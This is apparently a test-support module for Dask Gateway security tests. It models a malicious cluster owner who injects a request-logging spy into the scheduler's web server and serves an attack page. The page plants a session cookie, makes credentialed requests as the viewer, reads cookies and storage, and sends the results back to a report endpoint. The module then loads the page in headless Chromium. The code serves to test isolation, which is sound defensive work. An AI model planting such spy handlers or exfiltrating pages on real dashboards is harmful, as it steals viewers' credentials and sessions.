"""What a cluster's owner can do to those who open their dashboard: code for their scheduler
(run there with ``in_scheduler``) that records every request it gets, and an attack page its
dashboard serves, whose script tries to act as the viewer; and a headless Chromium to open
it as a viewer would."""

from __future__ import annotations

import json
from contextlib import contextmanager

from support.chromium import CHROMIUM, CHROMIUM_ARGS

#: Installs the spy in the scheduler: ``_spy_seen`` (path and headers of every request the
#: scheduler's web server gets), ``/attack`` (PAGE, with a planted cookie) and ``/report``
#: (where the page's script sends what it got).
INSTALL = r"""
import json
from tornado import web

app = dask_scheduler.http_application
if not hasattr(dask_scheduler, "_spy_seen"):
    seen = dask_scheduler._spy_seen = []
    reports = dask_scheduler._spy_reports = []
    inner = app.find_handler

    def find_handler(request, **kwargs):
        seen.append({"path": request.path, "headers": list(request.headers.get_all())})
        return inner(request, **kwargs)

    app.find_handler = find_handler

    class Attack(web.RequestHandler):
        def get(self):
            self.set_header("Content-Type", "text/html; charset=utf-8")
            self.set_header("Set-Cookie", "dask-gateway-session=planted-by-owner; Path=/")
            self.write(dask_scheduler._spy_page)

    class Report(web.RequestHandler):
        def get(self):
            reports.append(json.loads(self.get_argument("d")))
            self.write("ok")

    app.add_handlers(".*$", [(r"/attack", Attack), (r"/report", Report)])
dask_scheduler._spy_page = PAGE
result = True
"""

_PAGE = """<!doctype html><html><body><div id="out">running</div><script>
(async () => {
  const out = {};
  async function attempt(key, url, init) {
    try {
      const r = await fetch(url, Object.assign({credentials: "include"}, init));
      let body = "";
      try { body = await r.text(); } catch (e) { body = "unreadable"; }
      out[key] = {status: r.status, type: r.type, body: body.slice(0, 2000)};
    } catch (e) {
      out[key] = {error: String(e)};
    }
  }
  for (const [key, url, init] of ATTEMPTS) { await attempt(key, url, init); }
  try { out.cookie = document.cookie; } catch (e) { out.cookie = "error: " + e.name; }
  try { localStorage.setItem("x", "1"); out.storage = "usable"; }
  catch (e) { out.storage = "error: " + e.name; }
  try {
    await fetch("report?d=" + encodeURIComponent(JSON.stringify(out)), {mode: "no-cors"});
  } catch (e) {
    document.getElementById("out").textContent = "report failed: " + e + JSON.stringify(out);
    return;
  }
  document.getElementById("out").textContent = "done";
})();
</script></body></html>"""


def install_source(attempts: list[tuple[str, str, dict]]) -> str:
    """The scheduler code installing the spy with a page that tries ``attempts``: (key, url,
    fetch options) each."""
    page = _PAGE.replace("ATTEMPTS", json.dumps(attempts))
    return f"PAGE = {page!r}\n" + INSTALL


SEEN = "result = list(dask_scheduler._spy_seen)"
REPORTS = "result = list(dask_scheduler._spy_reports)"
CLEAR = "dask_scheduler._spy_seen.clear(); result = True"


@contextmanager
def chromium(**context_options):
    """A headless Chromium page (Debian's chromium through Playwright), with its websockets
    and their received frames counted in ``page.sockets``."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            context = browser.new_context(**context_options)
            page = context.new_page()
            page.sockets = []  # type: ignore[attr-defined]

            def on_socket(ws):
                entry = {"url": ws.url, "frames": 0, "closed": False}
                ws.on("framereceived", lambda _: entry.__setitem__("frames", entry["frames"] + 1))
                ws.on("close", lambda _: entry.__setitem__("closed", True))
                page.sockets.append(entry)  # type: ignore[attr-defined]

            page.on("websocket", on_socket)
            page.console_lines = []  # type: ignore[attr-defined]
            page.on("console", lambda m: page.console_lines.append(m.text))
            yield page
        finally:
            browser.close()


def wait_attack_done(page, timeout_ms: int = 60_000) -> None:
    """Until the attack page's script has tried everything and reported to its owner."""
    try:
        page.wait_for_function(
            "() => document.getElementById('out').textContent !== 'running'", timeout=timeout_ms
        )
    finally:
        text = page.evaluate("() => document.getElementById('out').textContent")
    assert text == "done", (text, page.console_lines)


BOKEH_RENDERED = """() => !!(window.Bokeh && Bokeh.documents && Bokeh.documents.length
    && Bokeh.documents[0].roots().length)"""


def assert_bokeh_live(page, ws_part: str, timeout_ms: int = 120_000) -> None:
    """The page holds a bokeh document with plots, fed by a live websocket whose URL contains
    ``ws_part``."""
    try:
        page.wait_for_function(BOKEH_RENDERED, timeout=timeout_ms)
    except Exception as e:
        raise AssertionError(
            f"no bokeh document at {page.url}: {e}\n{page.console_lines}\n{page.content()[:3000]}"
        ) from None
    waited = 0
    while waited < timeout_ms:
        live = [s for s in page.sockets if ws_part in s["url"] and s["frames"] > 0]
        if live:
            break
        page.wait_for_timeout(250)
        waited += 250
    live = [s for s in page.sockets if ws_part in s["url"]]
    assert live and live[0]["frames"] > 0 and not live[0]["closed"], page.sockets
